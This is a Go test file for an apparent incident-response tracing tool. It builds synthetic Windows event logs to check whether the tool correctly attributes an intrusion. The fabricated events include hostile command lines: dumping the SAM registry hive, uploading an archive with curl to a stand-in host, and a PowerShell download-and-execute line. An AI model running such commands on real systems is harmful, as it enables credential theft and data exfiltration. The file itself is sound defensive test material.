package trail

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/contrail-ir/contrail/finding"
)

// story is evidence of a test that grows event by event; alerts are the records that a rule matched.
type storyline struct {
	all    []said
	alerts []finding.Finding
	begin  int // record from which the trace begins
}

func (s *storyline) say(e said) int {
	s.all = append(s.all, e)
	return len(s.all)
}

// alert says that the event is matched by a grave rule of a tactic.
func (s *storyline) alert(e said, tactic string) int {
	n := s.say(e)
	s.alerts = append(s.alerts, finding.Finding{Rule: &finding.Rule{ID: finding.RuleID(tactic), Title: tactic, Level: finding.High, Tags: []string{"attack." + tactic}}, File: e.host, Record: uint64(n)})
	return n
}

func runs(host string, at time.Duration, n, parent int, parentImage, image, command, logon string) said {
	return sys(host, 1, at, "ProcessGuid", guid(n), "ProcessId", fmt.Sprint(1000+n), "Image", image, "CommandLine", command, "LogonId", logon, "ParentProcessGuid", guid(parent), "ParentProcessId", fmt.Sprint(1000+parent), "ParentImage", parentImage)
}

func comes(host string, at time.Duration, user, kind, ip string, port int, logon string) said {
	return audit(host, 4624, at, "TargetLogonId", logon, "TargetUserName", user, "LogonType", kind, "IpAddress", ip, "IpPort", fmt.Sprint(port), "WorkstationName", "-")
}

const (
	services = `C:\Windows\System32\services.exe`
	explorer = `C:\Windows\explorer.exe`
	command  = `C:\Windows\System32\cmd.exe`
	dayLong  = 24 * time.Hour
)

// ordinary is ten days on which somebody works from a desk: programs at the desk, and logons to the server.
func (s *storyline) ordinary(user, ip string) {
	for d := range 10 {
		at := time.Duration(d) * dayLong
		s.say(runs("desk", at, 100+d, 90, explorer, `C:\Windows\System32\mmc.exe`, "mmc", "0x77"))
		s.say(sys("desk", 3, at+time.Second, "ProcessGuid", guid(100+d), "ProcessId", fmt.Sprint(1100+d), "Image", `C:\Windows\System32\mmc.exe`, "Initiated", "true", "SourceIp", "10.1.1.77", "SourcePort", fmt.Sprint(40000+d), "DestinationIp", "10.1.1.20", "DestinationPort", "135"))
		s.say(comes("server", at+time.Second, user, "3", ip, 40000+d, fmt.Sprintf("%#x", 0x500+d)))
	}
}

// night is a tool brought to the server as a service, which packs and sends; by opens the connection, at the desk.
func (s *storyline) night(user, ip string, by int, byImage string, sends bool) {
	at := 11 * dayLong
	if by != 0 {
		s.say(sys("desk", 3, at+time.Second, "ProcessGuid", guid(by), "ProcessId", fmt.Sprint(1000+by), "Image", byImage, "Initiated", "true", "SourceIp", ip, "SourcePort", "51000", "DestinationIp", "10.1.1.20", "DestinationPort", "445"))
	}
	s.say(comes("server", at+2*time.Second, user, "3", ip, 51000, "0xabc"))
	s.begin = s.alert(audit("server", 4697, at+3*time.Second, "SubjectLogonId", "0xabc", "ServiceName", "tool", "ServiceFileName", `C:\ProgramData\t\tool.exe`), "persistence")
	s.say(runs("server", at+4*time.Second, 201, 200, services, `C:\ProgramData\t\tool.exe`, `C:\ProgramData\t\tool.exe`, "0x3e7"))
	s.alert(runs("server", at+time.Minute, 202, 201, `C:\ProgramData\t\tool.exe`, `C:\Windows\System32\reg.exe`, `reg save HKLM\SAM C:\ProgramData\t\s.hiv`, "0x3e7"), "credential_access")
	if sends {
		s.say(runs("server", at+2*time.Minute, 203, 201, `C:\ProgramData\t\tool.exe`, `C:\Windows\System32\curl.exe`, `curl -T C:\ProgramData\t\case.7z https://upload.maker.example/`, "0x3e7"))
		s.say(sys("server", 3, at+2*time.Minute+time.Second, "ProcessGuid", guid(203), "ProcessId", "1203", "Image", `C:\Windows\System32\curl.exe`, "Initiated", "true", "SourceIp", "10.1.1.20", "SourcePort", "52000", "DestinationIp", "203.0.113.9", "DestinationPort", "443"))
	}
}

func (s *storyline) answer(t *testing.T) *Trail {
	t.Helper()
	return from(t, graphOf(t, s.all...), fmt.Sprintf("server:%d", s.begin), s.alerts...)
}

// TestVerdict tells the same grave steps with other causes. The names are of no consequence: where the orders come from is.
func TestVerdict(t *testing.T) {
	const robocopy = `C:\Windows\System32\robocopy.exe`
	atDesk := func(s *storyline) { // by hand, at the desk
		s.say(runs("desk", 11*dayLong-time.Minute, 120, 90, explorer, command, "cmd", "0x77"))
		s.say(runs("desk", 11*dayLong, 121, 120, command, robocopy, `robocopy D:\Tools \\server\C$\ProgramData\t tool.exe`, "0x77"))
	}
	for _, x := range []struct {
		name        string
		build       func(s *storyline)
		established bool
		why         string
	}{
		{"an administrator at the usual desk", func(s *storyline) {
			s.ordinary("adm", "10.1.1.77")
			atDesk(s)
			s.night("adm", "10.1.1.77", 121, robocopy, true)
		}, false, "goes back to adm"},
		{"the same without days before", func(s *storyline) {
			atDesk(s)
			s.night("adm", "10.1.1.77", 121, robocopy, true)
		}, true, "curl.exe reached for"},
		{"the account from another place", func(s *storyline) {
			s.ordinary("adm", "10.1.1.77")
			s.night("adm", "10.1.1.99", 0, "", true)
		}, true, "curl.exe"},
		{"the usual desk, but what connects came by a letter", func(s *storyline) {
			s.ordinary("adm", "10.1.1.77")
			s.say(runs("desk", 11*dayLong-time.Hour, 120, 91, `C:\Program Files\Office\winword.exe`, `C:\Users\p\AppData\Roaming\x\x.exe`, "x.exe", "0x77"))
			s.night("adm", "10.1.1.77", 120, `C:\Users\p\AppData\Roaming\x\x.exe`, true)
		}, true, ""},
		{"the usual desk, but the person started something that fetches", func(s *storyline) {
			const fetcher = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
			s.ordinary("adm", "10.1.1.77")
			s.say(runs("desk", 11*dayLong-time.Hour, 120, 90, explorer, fetcher, "powershell iex(irm https://verify.human.example/x)", "0x77"))
			s.night("adm", "10.1.1.77", 120, fetcher, true)
		}, true, ""},
		{"a test from within", func(s *storyline) {
			s.ordinary("adm", "10.1.1.77")
			s.say(sys("server", 3, time.Hour, "ProcessGuid", guid(300), "ProcessId", "1300", "Image", `C:\Windows\System32\svchost.exe`, "Initiated", "true", "SourceIp", "10.1.1.20", "SourcePort", "50001", "DestinationIp", "10.1.1.5", "DestinationPort", "53"))
			s.night("tester", "10.1.1.250", 0, "", false)
		}, false, "nothing leads outside"},
		{"the same where no log would show what leads outside", func(s *storyline) {
			s.night("tester", "10.1.1.250", 0, "", false)
		}, true, ""},
	} {
		t.Run(x.name, func(t *testing.T) {
			var s storyline
			x.build(&s)
			out := s.answer(t)
			if out.Established != x.established || !strings.Contains(out.Why, x.why) {
				t.Errorf("established %t: %s; want %t and %q", out.Established, out.Why, x.established, x.why)
			}
			if !out.Established && len(out.Implant)+len(out.Infrastructure)+len(out.Stages) > 0 {
				t.Errorf("what is not established is told as an intrusion: %v %v", out.Implant, out.Infrastructure)
			}
			for _, e := range out.Edges {
				if !out.Established && e.Refs[0].Role != Rejected {
					t.Errorf("role %s of what was not established", e.Refs[0].Role)
				}
			}
		})
	}
}

// TestSignsAreListedAndNotTheHeadline: the headline stays one sentence however many signs there are, and each sign has the records that show it, first
// of all the first. What is not established lists its signs as well, as looked at and rejected.
func TestSignsAreListedAndNotTheHeadline(t *testing.T) {
	const asked, packed = "several programs that tell of hosts, users and networks ran within an hour", "files were packed"
	for _, tester := range []bool{false, true} {
		var s storyline
		if tester { // in logs that would show what leads outside
			s.say(sys("server", 3, time.Hour, "ProcessGuid", guid(300), "ProcessId", "1300", "Image", `C:\Windows\System32\svchost.exe`, "Initiated", "true", "SourceIp", "10.1.1.20", "SourcePort", "50001", "DestinationIp", "10.1.1.5", "DestinationPort", "53"))
		}
		s.night("adm", "10.1.1.99", 0, "", !tester)
		at, third := 11*dayLong+3*time.Minute, 0
		for i, program := range []string{"whoami", "ipconfig", "systeminfo", "tasklist"} {
			n := s.say(runs("server", at+time.Duration(i)*time.Second, 220+i, 201, `C:\ProgramData\t\tool.exe`, `C:\Windows\System32\`+program+`.exe`, program, "0x3e7"))
			if i == 2 {
				third = n
			}
		}
		made := s.say(runs("server", at+time.Minute, 230, 201, `C:\ProgramData\t\tool.exe`, `C:\Users\Public\7z.exe`, `7z a -pX C:\Temp\all.7z C:\Temp\*.csv`, "0x3e7"))
		out := s.answer(t)
		if out.Established == tester {
			t.Fatalf("established %t: %s", out.Established, out.Why)
		}
		told, role := 0, Intrusion
		if tester {
			role = Rejected
		}
		got := map[string]Sign{}
		for _, x := range out.Signs {
			if got[x.What] = x; strings.Contains(out.Why, x.What) {
				told++
			}
			if len(x.Refs) == 0 || x.First == "" {
				t.Errorf("%s has no record or no time: %+v", x.What, x)
			}
			for _, r := range x.Refs {
				if r.Role != role {
					t.Errorf("%s: role %s of %s:%d", x.What, r.Role, r.File, r.Record)
				}
			}
		}
		if want := fmt.Sprintf("and %d signs", len(out.Signs)); len(out.Signs) < 4 || told > mostTold || strings.ContainsAny(out.Why, "()") != tester || !strings.Contains(out.Why, want) {
			t.Errorf("%d of %d signs are told in the headline: %s", told, len(out.Signs), out.Why)
		}
		for sign, record := range map[string]int{asked: third, packed: made} {
			if x := got[sign]; len(x.Refs) == 0 || x.Refs[0] != (Ref{"server", uint64(record), role}) {
				t.Errorf("%s: %+v, want record %d first", sign, x, record)
			}
		}
		var story, page strings.Builder
		if err := out.WriteStory(&story); err != nil {
			t.Fatal(err)
		}
		if err := out.WritePage(&page); err != nil {
			t.Fatal(err)
		}
		for _, x := range out.Signs {
			if !strings.Contains(story.String(), "- "+sentence(x.What)) || !strings.Contains(page.String(), "<td>"+sentence(x.What)+"</td>") {
				t.Errorf("%s is not told", x.What)
			}
		}
	}
}

// TestAnArchiveGivesWayToItsVolumes: what a command names and what was never there, because its volumes were.
func TestAnArchiveGivesWayToItsVolumes(t *testing.T) {
	const dir = `C:\ProgramData\t\`
	var s storyline
	s.night("adm", "10.1.1.99", 0, "", true)
	at := 11*dayLong + 3*time.Minute
	pack := func(n int, line string, writes ...string) (command, first int) {
		at += time.Minute
		command = s.say(runs("server", at, n, 201, dir+"tool.exe", dir+"rar.exe", line, "0x3e7"))
		for i, name := range writes {
			w := s.say(sys("server", 11, at+time.Duration(i+1)*time.Second, "ProcessGuid", guid(n), "ProcessId", fmt.Sprint(1000+n), "Image", dir+"rar.exe", "TargetFilename", dir+name))
			if i == 0 {
				first = w
			}
		}
		return command, first
	}
	command, volume := pack(240, dir+`rar.exe a -v900m `+dir+`all.rar D:\*.csv`, "all.part1.rar", "all.part2.rar")
	pack(241, dir+`rar.exe a -v900m `+dir+`seven.7z D:\*.csv`, "seven.7z.001", "seven.7z.002")
	pack(242, dir+`rar.exe a `+dir+`alone.zip D:\*.csv`)
	pack(243, dir+`rar.exe a `+dir+`old.zip D:\*.csv`, "old.z01", "old.zip") // the last volume has the archive's name
	var got []string
	out := s.answer(t)
	for _, x := range out.Staged {
		got = append(got, strings.TrimPrefix(x.Path, strings.ToLower(dir)))
		if want := []Ref{{"server", uint64(volume), Intrusion}, {"server", uint64(command), Intrusion}}; strings.HasSuffix(x.Path, "all.part1.rar") && !slices.Equal(x.Refs, want) {
			t.Errorf("the first volume's records are %v, want %v", x.Refs, want)
		}
	}
	slices.Sort(got)
	if want := []string{"all.part1.rar", "all.part2.rar", "alone.zip", "old.z01", "old.zip", "seven.7z.001", "seven.7z.002"}; !slices.Equal(got, want) {
		t.Errorf("staged %v, want %v", got, want)
	}
}

// TestTheSameToolInOtherHandsIsNoCause: an intruder elsewhere uses the tool that the administrator uses, with the same hash. From neither does a trace
// come to the other.
func TestTheSameToolInOtherHandsIsNoCause(t *testing.T) {
	const tool = `C:\Temp\dump.exe`
	hash := "SHA256=" + strings.Repeat("AB", 32)
	hashed := func(e said) said {
		e.fields = append(e.fields, "Hashes", hash)
		return e
	}
	var s storyline
	s.ordinary("adm", "10.1.1.77")
	s.say(runs("desk", 11*dayLong-time.Minute, 121, 90, explorer, command, "cmd", "0x77"))
	s.night("adm", "10.1.1.77", 121, command, false)
	ours := s.alert(hashed(runs("server", 11*dayLong+time.Hour, 210, 201, `C:\ProgramData\t\tool.exe`, tool, "dump.exe", "0x3e7")), "credential_access")
	at := 12 * dayLong
	s.alert(runs("web", at, 301, 300, `C:\Windows\System32\inetsrv\w3wp.exe`, command, "cmd /c whoami", "0x3e7"), "initial_access")
	theirs := s.alert(hashed(runs("web", at+time.Minute, 302, 301, command, tool, "dump.exe", "0x3e7")), "execution")
	for begin, established := range map[int]bool{ours: false, theirs: true} {
		out := from(t, graphOf(t, s.all...), fmt.Sprintf("%s:%d", s.all[begin-1].host, begin), s.alerts...)
		if out.Established != established {
			t.Errorf("from %d established %t: %s", begin, out.Established, out.Why)
		}
		for _, n := range reached(out) {
			if host := s.all[n-1].host; (host == "web") != established {
				t.Errorf("from %d reached record %d of %s", begin, n, host)
			}
		}
	}
}

// TestTheReasonIsOfWhatCameClosest: of several starts, the one that nearly was an intrusion says why there is none.
func TestTheReasonIsOfWhatCameClosest(t *testing.T) {
	var s storyline
	s.ordinary("adm", "10.1.1.77")
	s.alert(runs("other", 0, 400, 401, explorer, `C:\Temp\odd.exe`, "odd", "0x99"), "execution")
	s.say(runs("desk", 11*dayLong-time.Minute, 121, 90, explorer, command, "cmd", "0x77"))
	s.night("adm", "10.1.1.77", 121, command, true)
	out, err := Trace(graphOf(t, s.all...), Question{Findings: s.alerts})
	if err != nil {
		t.Fatal(err)
	}
	if out.Established || !strings.Contains(out.Why, "goes back to adm") || !strings.Contains(out.Starts[0].Why, "only 1 rule") {
		t.Errorf("%s; the first start: %s", out.Why, out.Starts[0].Why)
	}
}

// TestSeveralQuestionsAreAskedAsIfAlone holds TraceEach against graphs that were asked once.
func TestSeveralQuestionsAreAskedAsIfAlone(t *testing.T) {
	var s storyline
	s.night("tester", "10.1.1.250", 0, "", true)
	ask := func(at int) Question {
		return Question{Org: "a", From: []Start{{Ref: finding.Ref{File: "server", Record: uint64(at)}}}, Findings: s.alerts}
	}
	text := func(tr *Trail) string {
		var b strings.Builder
		if err := tr.Write(&b); err != nil {
			t.Fatal(err)
		}
		return b.String()
	}
	var all []Question
	var alone []string
	for at := range s.all {
		all = append(all, ask(at+1))
		one, err := Trace(graphOf(t, s.all...), ask(at+1))
		if err != nil {
			t.Fatal(err)
		}
		alone = append(alone, text(one))
	}
	together, err := TraceEach(graphOf(t, s.all...), all...)
	if err != nil {
		t.Fatal(err)
	}
	for i := range all {
		if text(together[i]) != alone[i] {
			t.Errorf("from record %d the answer hangs on what else was asked", i+1)
		}
	}
}

// TestADeskIsItsOwnersBeforeAndAfter: a program that came by a letter makes a service in the person's own logon. What the person does that day
// and the days before in the same logon is not the intruder's.
func TestADeskIsItsOwnersBeforeAndAfter(t *testing.T) {
	var s storyline
	s.say(comes("desk", -2*dayLong, "p", "2", "-", 0, "0x77"))
	before := s.say(runs("desk", -dayLong, 10, 90, explorer, `C:\Program Files\Editor\edit.exe`, "edit", "0x77"))
	evil := s.alert(runs("desk", 0, 11, 12, `C:\Program Files\Office\winword.exe`, `C:\Users\p\AppData\x.exe`, "x.exe", "0x77"), "execution")
	made := s.alert(audit("desk", 4697, time.Minute, "SubjectLogonId", "0x77", "ServiceName", "x", "ServiceFileName", `C:\Users\p\AppData\x.exe`), "persistence")
	after := s.say(runs("desk", time.Hour, 13, 90, explorer, `C:\Program Files\Editor\edit.exe`, "edit", "0x77"))
	for _, begin := range []int{evil, made} {
		out := from(t, graphOf(t, s.all...), fmt.Sprintf("desk:%d", begin), s.alerts...)
		got := map[uint64]bool{}
		for _, n := range reached(out) {
			got[n] = true
		}
		if !got[uint64(evil)] || !got[uint64(made)] || got[uint64(before)] || got[uint64(after)] {
			t.Errorf("from %d reached %v: want %d and %d, and neither %d nor %d", begin, reached(out), evil, made, before, after)
		}
	}
}
